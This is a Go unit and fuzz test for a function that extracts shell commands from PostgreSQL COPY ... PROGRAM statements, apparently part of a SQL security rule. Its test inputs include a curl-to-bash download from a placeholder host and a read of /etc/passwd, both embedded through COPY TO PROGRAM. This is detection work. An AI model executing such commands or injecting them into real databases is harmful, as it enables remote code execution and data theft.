package rules

import (
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"
)

func TestCopyPrograms(t *testing.T) {
	for _, tc := range []struct {
		sql  string
		want []string
	}{
		{"COPY (SELECT 1) TO PROGRAM 'curl -s https://x.example/r.sh | bash';", []string{"curl -s https://x.example/r.sh | bash"}},
		{"copy t from program 'cat /etc/passwd'", []string{"cat /etc/passwd"}},
		{"COPY t TO PROGRAM 'echo ''hi'' > /tmp/x'", []string{"echo 'hi' > /tmp/x"}},
		{"SELECT 'program' FROM programs; COPY t TO '/tmp/out.csv'", nil},
		{"COPY t TO PROGRAM 'unterminated", nil},
	} {
		if diff := cmp.Diff(tc.want, copyPrograms(tc.sql)); diff != "" {
			t.Errorf("copyPrograms(%q) (-want +got):\n%s", tc.sql, diff)
		}
	}
}

// FuzzCopyPrograms: no panic, and every command found is text of the SQL
// (with ” read as ').
func FuzzCopyPrograms(f *testing.F) {
	for _, s := range []string{"COPY t TO PROGRAM 'id'", "copy t from program 'a''b'", "program 'x'", "TO PROGRAM '"} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, sql string) {
		for _, c := range copyPrograms(sql) {
			if !strings.Contains(sql, strings.ReplaceAll(c, "'", "''")) && !strings.Contains(sql, c) {
				t.Fatalf("copyPrograms(%q) found %q, which is not in it", sql, c)
			}
		}
	})
}
